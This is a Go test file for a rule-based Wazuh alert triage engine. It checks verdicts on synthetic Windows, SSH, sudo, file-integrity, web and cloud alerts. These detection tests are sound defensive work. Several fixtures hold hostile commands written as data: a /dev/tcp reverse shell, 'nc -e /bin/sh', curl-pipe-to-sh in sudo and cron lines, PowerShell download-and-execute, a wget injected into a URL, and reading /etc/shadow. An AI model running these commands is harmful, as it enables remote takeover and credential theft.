package model

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"picket/internal/ingest"
	"picket/internal/soc"
)

// windowsAlert is a Wazuh alert of an event of Windows, as its decoder writes the fields: backslashes doubled, quotes
// escaped, entities left in.
func windowsAlert(t *testing.T, level int, description string, fields map[string]string) soc.Alert {
	t.Helper()
	data := map[string]string{}
	for k, v := range fields {
		data[k] = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `\`, `\\`, `"`, `\"`).Replace(v)
	}
	body, err := json.Marshal(map[string]any{
		"rule":  map[string]any{"id": "1", "level": level, "description": description, "groups": []string{"sysmon", "windows"}, "firedtimes": 1},
		"agent": map[string]any{"name": "pc"},
		"data":  map[string]any{"win": map[string]any{"system": map[string]any{"eventID": "1"}, "eventdata": data}},
	})
	require.NoError(t, err)
	return normalised(t, ingest.Wazuh, body)
}

// hostAlert is a Wazuh alert of anything else.
func hostAlert(t *testing.T, level int, description, groups, rest string) soc.Alert {
	t.Helper()
	list, _ := json.Marshal(strings.Split(groups, " "))
	body := fmt.Sprintf(`{"rule":{"id":"1","level":%d,"description":%q,"groups":%s,"firedtimes":1},"agent":{"name":"h"},%s}`, level, description, list, rest)
	require.True(t, json.Valid([]byte(body)), body)
	return normalised(t, ingest.Wazuh, []byte(body))
}

const (
	system32   = `C:\Windows\System32\`
	powershell = system32 + `WindowsPowerShell\v1.0\powershell.exe`
)

func TestBuiltinReadsTheShapeOfWindowsEvents(t *testing.T) {
	t.Parallel()
	type m = map[string]string
	for name, c := range map[string]struct {
		fields m
		want   string // verdicts that will do
	}{
		"a service below Program Files, from the service manager": {m{"image": system32 + "services.exe", "targetObject": `HKLM\System\CurrentControlSet\Services\X\ImagePath`, "details": `"C:\Program Files\X\x.exe" -s`}, "benign"},
		"a driver by its relative path":                           {m{"image": system32 + "services.exe", "targetObject": `HKLM\System\CurrentControlSet\Services\X\ImagePath`, "details": `\SystemRoot\System32\drivers\x.sys`}, "benign"},
		"a service in a user's folder":                            {m{"image": system32 + "services.exe", "targetObject": `HKLM\System\CurrentControlSet\Services\X\ImagePath`, "details": `C:\Users\ana\AppData\Local\Temp\x.exe`}, "malicious suspicious"},
		"a service that is a shell":                               {m{"image": system32 + "services.exe", "targetObject": `HKLM\System\CurrentControlSet\Services\X\ImagePath`, "details": `%COMSPEC% /c echo x > C:\x.bat`}, "malicious"},
		"a service in a folder that climbs out":                   {m{"image": system32 + "services.exe", "targetObject": `HKLM\System\CurrentControlSet\Services\X\ImagePath`, "details": `C:\Program Files\..\Users\Public\x.exe`}, "malicious suspicious"},
		"a product below a user's folder":                         {m{"image": `C:\Users\ana\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "targetObject": `HKU\S-1_Classes\CLSID\{00000000-0000-0000-0000-000000000000}\InprocServer32\(Default)`, "details": `C:\Users\ana\AppData\Local\Microsoft\OneDrive\x.dll`}, "inconclusive"},
		"a Run key, from reg.exe":                                 {m{"image": system32 + "reg.exe", "targetObject": `HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\X`, "details": `C:\Users\Public\x.exe`}, "malicious"},
		"a key that elevates":                                     {m{"image": powershell, "targetObject": `HKU\S-1_Classes\ms-settings\shell\open\command\(Default)`, "details": `cmd.exe`}, "malicious"},
		"a value of the system's own":                             {m{"image": system32 + "svchost.exe", "targetObject": `HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime`, "details": `QWORD (0x1-0x2)`}, "benign"},

		"a library of the system in a program of the system": {m{"image": system32 + "sppsvc.exe", "imageLoaded": system32 + "taskschd.dll", "signatureStatus": "Valid"}, "benign"},
		"the same in a program from Downloads":               {m{"image": `C:\Users\ana\Downloads\x.exe`, "imageLoaded": system32 + "taskschd.dll", "signatureStatus": "Valid"}, "suspicious"},
		"the library of PowerShell in a program without use": {m{"image": system32 + "notepad.exe", "imageLoaded": `C:\Windows\assembly\x\System.Management.Automation.ni.dll`}, "suspicious"},
		"the library of PowerShell in its remote host":       {m{"image": system32 + "wsmprovhost.exe", "imageLoaded": `C:\Windows\assembly\x\System.Management.Automation.ni.dll`}, "benign"},
		"a library without a signature in Temp":              {m{"image": system32 + "rundll32.exe", "imageLoaded": `C:\Users\ana\AppData\Local\Temp\x.dll`, "signatureStatus": "Unavailable"}, "malicious suspicious"},
		"a shell that loads a library of the system":         {m{"image": powershell, "imageLoaded": system32 + "taskschd.dll", "signatureStatus": "Valid"}, "inconclusive"},

		"PowerShell's own probe":                     {m{"image": powershell, "targetFilename": `C:\Users\ana\AppData\Local\Temp\__PSScriptPolicyTest_abcdefgh.abc.ps1`}, "benign"},
		"PowerShell that writes a program":           {m{"image": powershell, "targetFilename": `C:\Users\Public\x.exe`}, "malicious suspicious"},
		"a document program that writes a program":   {m{"image": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "targetFilename": `C:\Users\ana\AppData\Roaming\x.exe`}, "malicious"},
		"an update that writes into the system":      {m{"image": `C:\Windows\servicing\TrustedInstaller.exe`, "targetFilename": system32 + `x.dll`}, "benign"},
		"a share that writes into the system":        {m{"image": "System", "targetFilename": `C:\Windows\x.exe`}, "suspicious malicious"},
		"an archive that is unpacked by hand":        {m{"image": `C:\Program Files\7-Zip\7zG.exe`, "targetFilename": `C:\Users\ana\Downloads\x.exe`}, "inconclusive"},
		"a downloaded installer that unpacks itself": {m{"image": `C:\Users\ana\Downloads\setup.exe`, "targetFilename": `C:\Users\ana\AppData\Local\Temp\nsx1A2B.tmp\System.dll`}, "inconclusive"},

		"a stranger that reads the credentials":   {m{"sourceImage": `C:\Users\Public\x.exe`, "targetImage": system32 + "lsass.exe", "grantedAccess": "0x1010"}, "malicious"},
		"protection that reads the credentials":   {m{"sourceImage": `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe`, "targetImage": system32 + "lsass.exe", "grantedAccess": "0x1010"}, "benign"},
		"a tool that reads the credentials":       {m{"sourceImage": system32 + "rundll32.exe", "targetImage": system32 + "lsass.exe", "grantedAccess": "0x1010"}, "malicious"},
		"a question to another process":           {m{"sourceImage": `C:\Program Files\X\x.exe`, "targetImage": `C:\Windows\explorer.exe`, "grantedAccess": "0x1000"}, "benign"},
		"a thread that a stranger starts":         {m{"sourceImage": `C:\Users\Public\x.exe`, "targetImage": `C:\Windows\explorer.exe`, "startAddress": "0x1"}, "malicious"},
		"a stranger that asks for a name":         {m{"image": `C:\Users\Public\x.exe`, "queryName": "x.example"}, "suspicious"},
		"a copy of a tool under another name":     {m{"image": `C:\Users\ana\x.exe`, "originalFileName": "CertUtil.exe", "commandLine": "x.exe -decode a b"}, "malicious"},
		"a name of the system, elsewhere":         {m{"image": `C:\ProgramData\svchost.exe`, "commandLine": "svchost.exe -k x"}, "malicious"},
		"a web server that starts a shell":        {m{"image": system32 + "cmd.exe", "commandLine": "cmd.exe /c whoami", "parentImage": system32 + `inetsrv\w3wp.exe`}, "malicious"},
		"a scheduler that starts a program":       {m{"image": system32 + "sdbinst.exe", "commandLine": "sdbinst.exe -m -bg", "parentImage": system32 + "svchost.exe"}, "benign"},
		"a product that runs its own script":      {m{"image": powershell, "commandLine": `powershell.exe -ExecutionPolicy Bypass -File "C:\Program Files\X\job.ps1"`, "parentImage": `C:\Program Files\X\x.exe`}, "benign"},
		"a product that is made to download":      {m{"image": powershell, "commandLine": `powershell.exe iex(iwr http://198.51.100.1/a)`, "parentImage": `C:\Program Files\X\x.exe`}, "malicious"},
		"malware that protection dealt with":      {m{"threat Name": "Trojan:Win32/X", "action Name": "Quarantine"}, "suspicious"},
		"unwanted software that it dealt with":    {m{"threat Name": "PUA:Win32/X", "action Name": "Quarantine"}, "benign"},
		"a service that is started another way":   {m{"param1": "Background Intelligent Transfer Service", "param2": "demand start", "param3": "auto start"}, "benign"},
		"protection that is disabled":             {m{"param1": "Windows Defender Antivirus Service", "param2": "auto start", "param3": "disabled"}, "malicious suspicious"},
		"a command that nobody knows anything of": {m{"image": `D:\apps\x.exe`, "commandLine": "x.exe --now", "parentImage": `C:\Windows\explorer.exe`}, "inconclusive"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a := windowsAlert(t, 6, "Something happened", c.fields)
			v := judge(t, Request{Severity: a.Severity, Evidence: []soc.Evidence{alertEvidence(t, a)}})
			require.Contains(t, strings.Fields(c.want), v.Verdict, "%s %+v", v.Summary, v.Indicators)
		})
	}
}

func TestBuiltinReadsWhatHostsReport(t *testing.T) {
	t.Parallel()
	syscheck := func(path, event, more string) string {
		return fmt.Sprintf(`"location":"syscheck","syscheck":{"path":%q,"event":%q%s}`, path, event, more)
	}
	command := func(command string) string {
		return fmt.Sprintf(`"data":{"srcuser":"ana","dstuser":"root","pwd":"/home/ana","command":%q}`, command)
	}
	ports := func(now string) string {
		before := "tcp 0.0.0.0:22 0.0.0.0:* 7/sshd"
		return fmt.Sprintf(`"full_log":%q,"previous_output":%q`, "netstat listening ports\n"+now, "Previous output:\nnetstat listening ports\n"+before)
	}
	for name, c := range map[string]struct {
		description, groups, rest, want string
	}{
		"a sign-in from inside":              {"sign-in", "sshd authentication_success", `"data":{"srcip":"10.1.2.3","dstuser":"ana"}`, "benign"},
		"root by password from outside":      {"sign-in", "sshd authentication_success", `"full_log":"Accepted password for root from 203.0.113.9","data":{"srcip":"203.0.113.9","dstuser":"root"}`, "malicious suspicious"},
		"a key from outside":                 {"sign-in", "sshd authentication_success", `"full_log":"Accepted publickey for ana from 203.0.113.9","data":{"srcip":"203.0.113.9","dstuser":"ana"}`, "inconclusive"},
		"a mistyped password":                {"failed", "sshd authentication_failed", `"data":{"srcip":"10.1.2.3","dstuser":"ana"}`, "benign"},
		"a failure from outside":             {"failed", "sshd authentication_failed", `"data":{"srcip":"203.0.113.9","dstuser":"ana"}`, "inconclusive"},
		"guessing from outside":              {"failed", "sshd authentication_failures", `"data":{"srcip":"203.0.113.9","dstuser":"ana"}`, "suspicious"},
		"guessing that came to an end":       {"Multiple authentication failures followed by a success", "sshd", `"data":{"srcip":"203.0.113.9"}`, "malicious"},
		"a session of the scheduler":         {"session", "pam authentication_success", `"full_log":"CRON[1]: pam_unix(cron:session): session opened for user root"`, "benign"},
		"a package":                          {"package", "dpkg", `"full_log":"2025-01-01 10:00:00 status installed openssl:amd64 3.0"`, "benign"},
		"a package that attackers use":       {"package", "dpkg", `"full_log":"2025-01-01 10:00:00 status installed hydra:amd64 9.4"`, "suspicious"},
		"an update by sudo":                  {"sudo", "sudo", command("/usr/bin/apt-get update"), "benign"},
		"an update that runs something else": {"sudo", "sudo", command("/usr/bin/apt-get update; curl http://198.51.100.1/x | sh"), "malicious suspicious"},
		"a routine command on secrets":       {"sudo", "sudo", command("/usr/bin/tail /etc/shadow"), "malicious"},
		"a command of an unknown kind":       {"sudo", "sudo", command("/opt/x/do-it --now"), "inconclusive"},
		"a shell over the network":           {"audit", "audit", `"data":{"audit":{"execve":{"a0":"bash","a1":"-c","a2":"bash -i >& /dev/tcp/198.51.100.1/9 0>&1"}}}`, "malicious"},
		"more than ten arguments in order":   {"audit", "audit", `"data":{"audit":{"execve":{"a0":"nc","a1":"-v","a2":"198.51.100.1","a3":"1","a4":"2","a5":"3","a6":"4","a7":"5","a8":"6","a9":"7","a10":"-e","a11":"/bin/sh"}}}`, "malicious"},
		"a check of the configuration":       {"CIS", "sca", `"data":{"sca":{"policy":"CIS","check":{"result":"failed"}}}`, "benign"},
		"a vulnerability of medium severity": {"CVE", "vulnerability-detector", `"data":{"vulnerability":{"severity":"Medium","cve":"CVE-2024-1"}}`, "benign"},
		"a critical vulnerability":           {"CVE", "vulnerability-detector", `"data":{"vulnerability":{"severity":"Critical","cve":"CVE-2024-1"}}`, "inconclusive"},
		"a cache":                            {"changed", "syscheck", syscheck("/etc/ld.so.cache", "modified", ""), "benign"},
		"a way in":                           {"changed", "syscheck", syscheck("/root/.ssh/authorized_keys", "modified", ""), "malicious suspicious"},
		"a script among uploads":             {"added", "syscheck", syscheck("/var/www/html/uploads/a.php", "added", `,"uname_after":"www-data"`), "malicious suspicious"},
		"a program that changed":             {"changed", "syscheck", syscheck("/usr/bin/ls", "modified", ""), "inconclusive"},
		"a line in a cron file":              {"changed", "syscheck", syscheck("/etc/cron.d/x", "modified", `,"diff":"4a5\n> * * * * * root curl -s http://198.51.100.1/x | sh"`), "malicious suspicious"},
		"a document with a second extension": {"added", "syscheck", syscheck("/srv/a.docx.crypted", "added", ""), "malicious suspicious"},
		"the same ports":                     {"ports", "ossec", ports("tcp 0.0.0.0:22 0.0.0.0:* 99/sshd"), "benign"},
		"a new port":                         {"ports", "ossec", ports("tcp 0.0.0.0:22 0.0.0.0:* 99/sshd\ntcp 0.0.0.0:4444 0.0.0.0:* 5/nc"), "inconclusive suspicious"},
		"the agent":                          {"Wazuh agent started.", "ossec", `"full_log":"started"`, "benign"},
		"the agent went away":                {"Wazuh agent disconnected.", "ossec", `"full_log":"gone"`, "inconclusive"},
		"a request that runs something":      {"web", "web accesslog", `"data":{"srcip":"203.0.113.9","url":"/x?q=1;wget http://198.51.100.1/a","id":"200"}`, "malicious"},
		"a picture that is not there":        {"web", "web accesslog attack", `"data":{"srcip":"203.0.113.9","url":"/favicon.ico","id":"404"}`, "benign"},
		"a signature of a habit":             {"ids", "ids", `"data":{"alert":{"signature":"ET INFO x","severity":"3","category":"Misc activity"}}`, "benign"},
		"a signature of malware":             {"ids", "ids", `"data":{"alert":{"signature":"ET MALWARE x","severity":"1","category":"Malware Command and Control Activity Detected"}}`, "malicious suspicious"},
		"logging is turned off":              {"aws", "aws", `"data":{"aws":{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging"}}`, "suspicious"},
		"the same, refused":                  {"aws", "aws", `"data":{"aws":{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","errorCode":"AccessDenied"}}`, "inconclusive"},
		"a call that reads":                  {"aws", "aws", `"data":{"aws":{"eventSource":"ec2.amazonaws.com","eventName":"DescribeInstances"}}`, "inconclusive"},
		"mails that are sent on":             {"o365", "office365", `"data":{"office365":{"Operation":"New-InboxRule","Parameters":[{"Name":"ForwardTo","Value":"x@y.example"}]}}`, "malicious suspicious"},
		"many engines":                       {"vt", "virustotal", `"data":{"virustotal":{"positives":"40","total":"60","source":{"file":"/tmp/x"}}}`, "malicious"},
		"a kernel message":                   {"Unknown problem somewhere in the system.", "syslog errors", `"full_log":"kernel: ACPI Error"`, "inconclusive"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a := hostAlert(t, 5, c.description, c.groups, c.rest)
			v := judge(t, Request{Severity: a.Severity, Evidence: []soc.Evidence{alertEvidence(t, a)}})
			require.Contains(t, strings.Fields(c.want), v.Verdict, "%s %+v", v.Summary, v.Indicators)
		})
	}
}

// TestADetectionsClaimsAreNoEvidence holds that title, level and technique neither make a verdict where the event is plain
// nor are lost: they stand in what speaks against it.
func TestADetectionsClaimsAreNoEvidence(t *testing.T) {
	t.Parallel()
	a := windowsAlert(t, 15, "Possible credential dump by malware", map[string]string{
		"sourceImage": `C:\Program Files\X\x.exe`, "targetImage": system32 + "lsass.exe", "grantedAccess": "0x1000", "ruleName": "technique_id=T1003,technique_name=x",
	})
	v := judge(t, Request{Severity: a.Severity, Evidence: []soc.Evidence{alertEvidence(t, a)}})
	require.Equal(t, "benign", v.Verdict)
	require.Len(t, v.Against, 3)
	require.GreaterOrEqual(t, v.Confidence.Stated, 0.5)
	// Evidence against it brings the claims back, and no verdict stays benign.
	v = judge(t, Request{Severity: a.Severity, Evidence: []soc.Evidence{alertEvidence(t, a), evidence("vt", `{"known":true,"malicious":40,"suspicious":0,"harmless":0,"undetected":9}`)}})
	require.NotEqual(t, "benign", v.Verdict)
}

func TestEncodedScriptsAreRead(t *testing.T) {
	t.Parallel()
	for script, want := range map[string]string{
		"chcp.com 65001 > $null": "in which no rule finds anything",
		"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.1/a')": "once decoded, holds",
	} {
		var raw []byte
		for _, r := range script {
			raw = append(raw, byte(r), 0)
		}
		text, err := json.Marshal(raw) // a []byte is written in Base64
		require.NoError(t, err)
		v := judge(t, Request{Evidence: []soc.Evidence{evidence("p", `{"command_line":`+fmt.Sprintf("%q", "powershell.exe -enc "+strings.Trim(string(text), `"`))+`}`)}})
		require.Contains(t, fmt.Sprintf("%+v", v.Indicators), want)
	}
}

// TestRulesNameNoDataSet holds every rule against the alerts that it is measured on: no host, user, domain or rule of
// theirs, and no name of a laboratory, stands in the rules.
func TestRulesNameNoDataSet(t *testing.T) {
	t.Parallel()
	var rules strings.Builder
	for _, name := range []string{"builtin.go", "rules.go", "commands.go", "event.go", "windows.go", "host.go", "service.go", "objects.go"} {
		text, err := os.ReadFile(name)
		require.NoError(t, err)
		rules.WriteString(strings.ToLower(string(text)))
	}
	sets := []string{"../eval/sample/wazuh.jsonl"}
	for _, pattern := range []string{"../../../shared/corpora/wazuh/*.jsonl", "../../../shared/corpora/defender/*.jsonl"} {
		found, err := filepath.Glob(pattern)
		require.NoError(t, err)
		sets = append(sets, found...)
	}
	require.Greater(t, len(sets), 1, "the corpora are needed for this test")
	names := map[string]bool{"atomic": true, "soclab": true, "stratus": true, "detonat": true}
	member := regexp.MustCompile(`"(?:name|computer|HostName|hostname|user|targetUserName|domain|NTDomain|Name)":\s*"([^"]{4,60})"`)
	id := regexp.MustCompile(`"id":\s*"(\d{4,6})"`)
	for _, set := range sets {
		text, err := os.ReadFile(set)
		require.NoError(t, err)
		for line := range strings.Lines(string(text)) {
			var row struct {
				Alert struct {
					Agent struct{ Name string }
					Data  struct {
						Win struct {
							System struct{ Computer string }
						}
					}
				}
			}
			require.NoError(t, json.Unmarshal([]byte(line), &row))
			names[strings.ToLower(row.Alert.Agent.Name)] = true
			names[strings.ToLower(row.Alert.Data.Win.System.Computer)] = true
			for _, m := range id.FindAllStringSubmatch(line, -1) {
				names[m[1]] = true
			}
			if strings.Contains(set, "shared") {
				for _, m := range member.FindAllStringSubmatch(line, -1) {
					_, user, two := strings.Cut(m[1], `\\\\`)
					if two && !strings.HasPrefix(m[1], "NT ") {
						names[strings.ToLower(user)] = true
					}
				}
			}
		}
	}
	delete(names, "")
	require.Greater(t, len(names), 100)
	for name := range names {
		require.NotRegexp(t, `(^|[^a-z0-9])`+regexp.QuoteMeta(name)+`([^a-z0-9]|$)`, rules.String(), "a rule is about one data set")
	}
}
